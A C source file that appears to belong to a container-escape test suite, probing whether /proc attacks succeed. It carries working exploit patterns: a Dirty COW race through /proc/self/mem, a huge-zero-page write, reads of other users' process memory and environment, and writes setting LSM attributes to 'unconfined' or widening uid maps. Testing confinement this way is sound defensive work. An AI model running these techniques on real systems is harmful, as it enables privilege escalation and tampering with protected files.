/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Group F, rows 19, 20 and 22: what a process can do with the files that /proc keeps for it, and with those of others. */
#include "escape.h"

#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define TARGET "/bin/escape-probe"
#define RACES 3000

/* ---- F19: writing through /proc/self/mem to what is mapped read-only (CVE-2016-5195) ---- */

static char before[64], after[64];

static bool still_the_same(void)
{
    long fd = open_path(TARGET, O_RDONLY);
    bool same = fd >= 0 && read((int)fd, after, sizeof(before)) == (ssize_t)sizeof(before) && memcmp(before, after, sizeof(before)) == 0;

    (void)close((int)fd);
    return same;
}

static char *map_target(int flags)
{
    long fd = open_path(TARGET, O_RDONLY);
    void *map = fd < 0 || read((int)fd, before, sizeof(before)) != (ssize_t)sizeof(before) ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, flags, (int)fd, 0);

    return map == MAP_FAILED ? NULL : map;
}

static void write_memory(const void *at)
{
    long fd = open_path("/proc/self/mem", O_RDWR);

    (void)!pwrite((int)fd, "escaped", 7, (off_t)(uintptr_t)at);
    (void)close((int)fd);
}

static long mapped(const char *how)
{
    char *map = map_target(strcmp(how, "shared") == 0 ? MAP_SHARED : MAP_PRIVATE);

    if (!map)
        return -1;
    write_memory(map);
    return held(still_the_same(), "the file was changed");
}

static volatile bool racing = true;

static void *drop_pages(void *map)
{
    while (racing)
        (void)madvise(map, 4096, MADV_DONTNEED);
    return NULL;
}

static long race(const char *argument)
{
    pthread_t thread;
    char *map = map_target(MAP_PRIVATE);

    (void)argument;
    if (!map || pthread_create(&thread, NULL, drop_pages, map) != 0)
        return -1;
    for (int i = 0; i < RACES; i++)
        write_memory(map);
    racing = false;
    (void)pthread_join(thread, NULL);
    return held(still_the_same(), "the file was changed");
}

/* CVE-2017-1000405: the zero page is everybody's. */
static long zero_page(const char *argument)
{
    size_t size = 4UL << 20;
    const volatile char *shared = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), *other;

    (void)argument;
    if (shared == MAP_FAILED)
        return -1;
    (void)madvise((void *)(uintptr_t)shared, size, MADV_HUGEPAGE);
    char first = shared[0];
    write_memory((const void *)(uintptr_t)shared);
    other = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    return held(first == 0 && other != MAP_FAILED && other[0] == 0, "the zero page was changed");
}

/* ---- F20: the files of processes of another user ---- */

static long look_at(pid_t pid, const char *name)
{
    char path[64], byte;
    long fd;

    (void)snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, name);
    if (strcmp(name, "cwd") == 0 || strcmp(name, "exe") == 0 || strcmp(name, "root") == 0 || strncmp(name, "ns/", 3) == 0)
        return readlink(path, &byte, 1);
    if (strcmp(name, "mem") == 0)
        return open_path(path, O_RDWR);
    if (strcmp(name, "fd") == 0 || strcmp(name, "map_files") == 0) {
        (void)snprintf(path, sizeof(path), "/proc/%d/fd/0", (int)pid);
        return readlink(path, &byte, 1);
    }
    fd = open_path(path, O_RDONLY);
    if (fd < 0)
        return -1;
    long n = read((int)fd, &byte, 1);
    errno = n == 0 ? ENODATA : errno;
    return n > 0 ? 0 : -1;
}

/* A child that is another user, and dumpable: nothing but the ids stands between. */
static long of_another(const char *name)
{
    int ready[2];
    char byte;

    if (geteuid() != 0)
        return absent("only root has a process of another user here");
    if (pipe(ready) != 0)
        return -1;
    pid_t pid = fork();
    if (pid == 0) {
        bool other = setgroups(0, NULL) == 0 && setresgid(4000, 4000, 4000) == 0 && setresuid(4000, 4000, 4000) == 0 && prctl(PR_SET_DUMPABLE, 1) == 0;
        (void)!write(ready[1], other ? "+" : "-", 1);
        (void)pause();
        _exit(0);
    }
    if (pid < 0 || read(ready[0], &byte, 1) != 1 || byte != '+')
        return -1;
    long r = look_at(pid, name);
    int saved = errno;
    (void)kill(pid, SIGKILL);
    errno = saved;
    return r;
}

static long of_init(const char *name)
{
    struct stat st;

    if (stat("/proc/1", &st) != 0 || st.st_uid == geteuid())
        return absent("pid 1 is the same user");
    return look_at(1, name);
}

/* ---- F22: settings of the process itself: FILE:VALUE, in the value "," stands for a space ---- */

static long write_own(const char *argument)
{
    char path[64], value[64];
    const char *colon = strchr(argument, ':');
    struct stat st;
    long fd;

    (void)snprintf(path, sizeof(path), "/proc/self/%.*s", (int)(colon - argument), argument);
    (void)snprintf(value, sizeof(value), "%s", colon + 1);
    for (char *c = value; *c; c++)
        *c = *c == ',' ? ' ' : *c;
    if (stat(path, &st) != 0 && errno == ENOENT)
        return absent("this kernel has no %s", path);
    fd = open_path(path, O_WRONLY);
    return fd < 0 ? -1 : write((int)fd, value, strlen(value));
}

/* Less likely to be killed than it was. */
static long oom_lower(const char *argument)
{
    char text[64];

    (void)argument;
    if (read_path("/proc/self/oom_score_adj", text, sizeof(text)) < 0)
        return -1;
    (void)snprintf(text, sizeof(text), "oom_score_adj:%ld", strtol(text, NULL, 10) - 1);
    return write_own(text);
}

#define OF_A_PROCESS "environ mem maps smaps auxv stack syscall pagemap io fd map_files cwd exe root ns/mnt ns/user personality"
const struct attempt group_f3[] = {
    {.row = "F19", .name = "mapped", .run = mapped, .each = "private shared"},
    {.row = "F19", .name = "race", .run = race},
    {.row = "F19", .name = "zero-page", .run = zero_page},
    {.row = "F20", .name = "of-another", .run = of_another, .each = OF_A_PROCESS},
    {.row = "F20", .name = "of-init", .run = of_init, .each = OF_A_PROCESS},
    {.row = "F22", .name = "write", .run = write_own,
     .each = "oom_score_adj:-1000 oom_adj:-17 loginuid:3000000000 timens_offsets:monotonic,1000,0 uid_map:0,0,4294967295 gid_map:0,0,4294967295 "
             "attr/current:unconfined attr/exec:unconfined attr/fscreate:unconfined attr/keycreate:unconfined attr/sockcreate:unconfined "
             "attr/apparmor/current:unconfined attr/apparmor/exec:unconfined"},
    {.row = "F22", .name = "oom-lower", .run = oom_lower},
    {.name = NULL},
};
